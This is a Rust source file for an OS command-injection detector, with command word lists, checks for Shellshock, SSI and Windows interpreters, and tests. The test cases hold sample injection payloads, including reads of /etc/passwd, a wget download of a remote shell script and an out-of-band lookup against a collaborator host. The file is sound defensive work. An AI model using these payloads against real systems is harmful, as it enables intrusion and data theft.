//! OS command injection: a shell separator (`;`, `|`, `&`, `&&`, `||`, newline, `$(`,
//! backtick) followed by a command word (de-obfuscated: quotes, `\`, `$IFS`, `/bin/`
//! prefixes removed). Words that are also English need shell-like arguments, so prose
//! ("echo in the mirror", "read; copy should reach us") passes. Also Shellshock, SSI
//! directives, Windows `cmd /c` / `powershell -enc`, and code-execution sinks.

use crate::prefilter::{AMP, BACKTICK, BRACE, DASH, DOLLAR, LT, NEWLINE, PAREN, PIPE, SEMI, SLASH};
use crate::text::{eq_ci, excerpt, find_ci, is_space, lower, starts_ci, Needles, Words};
use crate::{Family, Finding, Level, Place, View};

/// Commands that are rarely English words: enough after a separator.
const STRONG: Words = Words::new(&[
    "id",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "nslookup",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "powershell",
    "pwsh",
    "cmd",
    "getent",
    "chmod",
    "chown",
    "passwd",
    "perl",
    "python",
    "python2",
    "python3",
    "php",
    "ruby",
    "lua",
    "telnet",
    "ssh",
    "scp",
    "base64",
    "busybox",
    "systeminfo",
    "tasklist",
    "taskkill",
    "certutil",
    "bitsadmin",
    "wmic",
    "regsvr32",
    "rundll32",
    "mshta",
    "cscript",
    "wscript",
    "xterm",
    "nohup",
    "sudo",
    "crontab",
    "useradd",
    "usermod",
    "ping",
    "traceroute",
    "tracert",
    "hostname",
    "ls",
    "dir",
    "printf",
    "env",
    "pkill",
    "killall",
    "rm",
    "mkfifo",
    "mknod",
    "chgrp",
    "ps",
    "nmap",
    "tftp",
    "rsync",
    "sendmail",
    "openssl",
    "xxd",
    "hexdump",
    "lsof",
    "awk",
    "gawk",
    "sed",
    "grep",
    "egrep",
    "xargs",
    "tar",
    "unzip",
    "gzip",
    "bzip2",
    "socat",
    "telnetd",
    "ifup",
    "iptables",
    "sysctl",
    "uptime",
    "pwd",
    "cat",
    "net",
    "reg",
    "vssadmin",
    "schtasks",
    "nc.exe",
    "cmd.exe",
    "powershell.exe",
]);

/// Commands that are also ordinary words: they need shell-like arguments.
const AMBIGUOUS: Words = Words::new(&[
    "echo", "more", "type", "set", "export", "sleep", "kill", "find", "sort", "head", "tail", "file", "test", "who",
    "last", "history", "top", "free", "mount", "date", "time", "copy", "move", "del", "start", "exit", "print", "read",
    "wait", "which", "man", "less", "host", "dig", "source", "eval", "exec", "yes", "tee", "cut", "expr", "stat",
    "touch", "mkdir", "rmdir", "mv", "cp", "ln", "du", "df", "w", "rev", "tr", "od", "strings", "mail", "shutdown",
    "reboot", "halt", "logout", "su", "at", "call", "timeout", "nl", "uniq", "wc", "diff", "zip",
]);

/// Code-execution sinks of scripting languages.
const CODE_SINKS: &[&str] = &[
    "response.write(",
    "createobject(",
    "wscript.shell",
    "runtime.getruntime(",
    "processbuilder(",
    "passthru(",
    "shell_exec(",
    "proc_open(",
    "popen(",
    "os.system(",
    "subprocess.",
    "__import__(",
    "child_process",
    "system(\"",
    "system('",
    "exec(\"",
    "exec('",
    "pcntl_exec(",
    "assert(\"",
    "assert('",
    "<?php",
    "<?=",
    "java.lang.runtime",
    "server.scripttimeout",
];

pub(crate) const CODE_SINK_SET: Needles = Needles::new(CODE_SINKS);
pub(crate) const INTERPRETERS: Needles = Needles::new(&["cmd", "powershell", "pwsh"]);

/// The bytes a separator in [`scan`]'s walk starts with.
static SEPARATOR_START: [bool; 256] = {
    let mut t = [false; 256];
    let mut k = 0;
    let starts = b";|&`\n\r$";
    while k < starts.len() {
        t[starts[k] as usize] = true;
        k += 1;
    }
    t
};

fn is_sep(b: u8) -> bool {
    matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`')
}

/// Reads an obfuscated command word at `i`: returns (lowercase word, end index).
/// A command word read from the value, lowercased, at most 32 bytes: kept on the stack because
/// every separator in a value (`;`, `&`, `|` in prose too) reads one.
struct CommandWord {
    buf: [u8; 32],
    len: usize,
}

impl CommandWord {
    fn new() -> Self {
        CommandWord { buf: [0; 32], len: 0 }
    }
    fn push(&mut self, b: u8) {
        if let Some(slot) = self.buf.get_mut(self.len) {
            *slot = b;
            self.len += 1;
        }
    }
    fn clear(&mut self) {
        self.len = 0;
    }
}

impl std::ops::Deref for CommandWord {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        &self.buf[..self.len]
    }
}

fn command_word(s: &[u8], mut i: usize) -> (CommandWord, usize) {
    let n = s.len();
    // leading quotes, braces and path prefixes: '/bin/cat', {cat,/etc/passwd}, "c"at
    while i < n && matches!(s[i], b'{' | b'(' | b'"' | b'\'' | b'\\' | b'!') {
        i += 1;
    }
    let mut w = CommandWord::new();
    loop {
        let start = i;
        while i < n && w.len() < 32 {
            let b = s[i];
            if b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.') && !w.is_empty() {
                w.push(lower(b));
                i += 1;
            } else if matches!(b, b'\'' | b'"' | b'\\' | b'^')
                && i + 1 < n
                && s[i + 1].is_ascii_alphanumeric()
                && !w.is_empty()
            {
                i += 1; // c'a't, c\at, w^hoami
            } else if b == b'$' && s.get(i + 1) == Some(&b'@') {
                i += 2; // ca$@t
            } else {
                break;
            }
        }
        // path prefix: /bin/, /usr/bin/, C:\Windows\System32\
        if i < n
            && (s[i] == b'/' || s[i] == b'\\')
            && (start == i || w.iter().all(|c| c.is_ascii_alphanumeric() || *c == b':'))
            && i + 1 < n
            && s[i + 1].is_ascii_alphanumeric()
        {
            w.clear();
            i += 1;
            continue;
        }
        if i < n && s[i] == b'/' && i == start {
            w.clear();
            i += 1;
            continue;
        }
        break;
    }
    (w, i)
}

/// What follows a command word lets it run: end, a separator, whitespace, `$IFS`, a redirect.
fn follows_like_command(s: &[u8], e: usize) -> bool {
    match s.get(e) {
        None => true,
        Some(&b) => {
            is_space(b)
                || is_sep(b)
                || matches!(b, b'$' | b'<' | b'>' | b')' | b'+' | b'\'' | b'"' | b',' | b'}' | b'\t')
        }
    }
}

/// The argument after an ambiguous command looks like shell, not prose.
fn shell_argument(s: &[u8], e: usize) -> bool {
    let mut i = e;
    if matches!(s.get(i), Some(b'$' | b'<' | b'>' | b',')) {
        return true;
    }
    while i < s.len() && (s[i] == b' ' || s[i] == b'\t' || s[i] == b'+') {
        i += 1;
    }
    match s.get(i) {
        None => true,
        Some(&b) if is_sep(b) => true,
        Some(b'-' | b'/' | b'\\' | b'.' | b'~' | b'$' | b'%' | b'>' | b'<' | b'"' | b'\'' | b'`' | b'*') => true,
        Some(b) if b.is_ascii_digit() => {
            let mut j = i;
            while j < s.len() && (s[j].is_ascii_digit() || s[j] == b'.') {
                j += 1;
            }
            j == s.len() || is_sep(s[j])
        }
        Some(_) => {
            let mut j = i;
            while j < s.len() && !is_space(s[j]) && !is_sep(s[j]) {
                j += 1;
            }
            let arg = &s[i..j];
            arg.contains(&b'/')
                || arg.contains(&b'\\')
                || arg.contains(&b'$')
                || arg.contains(&b'=')
                || arg.contains(&b'.') && arg.len() > 2
        }
    }
}

fn is_command(word: &[u8], s: &[u8], e: usize, free_text: bool) -> bool {
    if word.is_empty() {
        return false;
    }
    let base = word.strip_suffix(b".exe").unwrap_or(word);
    if STRONG.contains(word) || STRONG.contains(base) {
        return follows_like_command(s, e) && (!free_text || shell_argument(s, e));
    }
    AMBIGUOUS.contains(base) && follows_like_command(s, e) && shell_argument(s, e)
}

/// Detector entry point.
pub(crate) fn scan(v: &View<'_>) -> Option<Finding> {
    let s = v.bytes;
    let f = |at: usize| Some(Finding::new(Family::Cmdi, excerpt(s, at)));
    if v.ctx.place == Place::JsonKey {
        return None;
    }
    if v.classes.any(LT) {
        // server-side includes
        if let Some(p) = find_ci(s, b"<!--#") {
            let d = &s[p + 5..];
            if ["exec", "include", "echo", "config", "printenv", "set", "fsize", "flastmod"]
                .iter()
                .any(|k| starts_ci(d, 0, k.as_bytes()))
            {
                return f(p);
            }
        }
    }
    // Shellshock
    let shellshock = v.classes.any(PAREN) && v.classes.any(BRACE);
    if let Some(p) = shellshock.then(|| find_ci(s, b"() {")).flatten() {
        if s[p + 4..].iter().take(16).any(|&b| b == b';' || b == b':') {
            return f(p);
        }
    }
    // Windows interpreters
    let interpreters = v.classes.any(SLASH | DASH) && v.groups & crate::prefilter::G_INTERP != 0;
    for (name, opt) in [
        (&b"cmd"[..], &[&b"/c"[..], b"/k", b"/r"][..]),
        (b"cmd.exe", &[b"/c", b"/k"]),
        (b"powershell", &[b"-e", b"-c", b"-nop", b"-w", b"-ex", b"-command", b"-enc"]),
        (b"pwsh", &[b"-e", b"-c"]),
    ] {
        if !interpreters {
            break;
        }
        let mut from = 0;
        while let Some(p) = crate::text::find_ci_from(s, from, name) {
            from = p + 1;
            let e = p + name.len();
            if !crate::text::boundary_before(s, p) || s.get(e).is_some_and(|b| b.is_ascii_alphanumeric()) {
                continue;
            }
            let a = crate::text::skip_space(s, e);
            if a > e
                && opt.iter().any(|o| {
                    starts_ci(s, a, o) && s.get(a + o.len()).is_none_or(|b| !b.is_ascii_alphabetic() || o.len() <= 2)
                })
            {
                return f(p);
            }
        }
    }
    if v.groups & crate::prefilter::G_SINK != 0 {
        if let Some((p, _)) = crate::text::find_any_ci(s, &CODE_SINK_SET, false) {
            return f(p);
        }
    }
    if !v.classes.any(SEMI | PIPE | AMP | NEWLINE | BACKTICK | DOLLAR | PAREN) {
        return None;
    }
    let free_text = matches!(v.ctx.place, Place::JsonString | Place::Body | Place::Form);
    let n = s.len();
    // a `(` alone starts no separator (`$(` needs the `$`): such values skip the walk
    let mut i = if v.classes.any(SEMI | PIPE | AMP | NEWLINE | BACKTICK | DOLLAR) { 0 } else { n };
    let mut checked = 0;
    while i < n {
        // straight to the next byte that can open a separator
        match s[i..].iter().position(|&b| SEPARATOR_START[usize::from(b)]) {
            Some(p) => i += p,
            None => break,
        }
        let b = s[i];
        let sep_len = match b {
            b';' | b'|' | b'&' | b'`' => 1 + usize::from(s.get(i + 1) == Some(&b) && b != b'`'),
            b'\n' | b'\r' => 1,
            b'$' if s.get(i + 1) == Some(&b'(') => 2,
            _ => 0,
        };
        if sep_len == 0 {
            i += 1;
            continue;
        }
        checked += 1;
        if checked > 256 {
            break;
        }
        // newlines in free text separate lines of prose, not commands
        let newline_in_text = matches!(b, b'\n' | b'\r') && free_text;
        let mut j = i + sep_len;
        while j < n && (is_space(s[j]) || s[j] == b'+') {
            j += 1;
        }
        // $IFS / ${IFS} used as whitespace
        for ifs in [&b"${ifs}"[..], b"$ifs$9", b"$ifs"] {
            if starts_ci(s, j, ifs) {
                j += ifs.len();
            }
        }
        // an HTML entity `&amp;` or `&#39;` is not a shell separator
        if b == b'&' && sep_len == 1 && s.get(j).is_some_and(|c| *c == b'#') {
            i += 1;
            continue;
        }
        let (word, e) = command_word(s, j);
        if !newline_in_text && is_command(&word, s, e, free_text && !matches!(b, b'`' | b'$')) {
            return f(i);
        }
        if newline_in_text && v.level >= Level::L2 && STRONG.contains(&word) && shell_argument(s, e) {
            return f(i);
        }
        i += sep_len;
    }
    if v.level >= Level::L3 {
        let (word, e) = command_word(s, crate::text::skip_space(s, 0));
        if STRONG.contains(&word) && shell_argument(s, e) && e < n {
            return f(0);
        }
    }
    let _ = eq_ci;
    None
}

#[cfg(test)]
mod tests {
    use crate::{Context, Detector, Family, Level, Place};

    fn fam(s: &str, place: Place) -> Option<Family> {
        Detector::new(Level::L1).scan(s.as_bytes(), Context::new(place)).map(|f| f.family)
    }

    #[test]
    fn attacks() {
        for a in [
            "; cat /etc/passwd",
            "| id",
            "cmd=127.0.0.1 && ls /etc",
            "; cat /et'c/pa'ss'wd",
            "ax--exec=`id`--remote=origin",
            ";wget http://some_host/sh311.sh",
            "|getent+hosts+somehost.burpcollaborator.net.&",
            ";getent$IFS$9hosts$IFS$9somehost.net;echo$IFS$9$((3482*7301));",
            "| set /a 3482*7301",
            "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
            "$(whoami)",
            "x;/bin/sh",
            "cmd /c dir",
            "powershell -enc SQBFAFgA",
            "<!--#exec cmd=\"ls\" -->",
            "127.0.0.1 & ping -n 10 127.0.0.1 &",
        ] {
            assert_eq!(fam(a, Place::Query), Some(Family::Cmdi), "{a}");
        }
    }

    #[test]
    fn prose() {
        for b in [
            "echo in the mirror",
            "bash away in the gym",
            "exec noun",
            "DEAR FINN,--I think it would do; copy should reach us second post",
            "Tom & Jerry",
            "R&D | Sales",
            "a=1&id=5&cat=3",
            "fish & chips; cat lovers welcome",
            "ls 300 lexus",
            "Shopping list:\ncat food\nmilk",
        ] {
            assert_eq!(fam(b, Place::JsonString), None, "{b}");
        }
    }
}
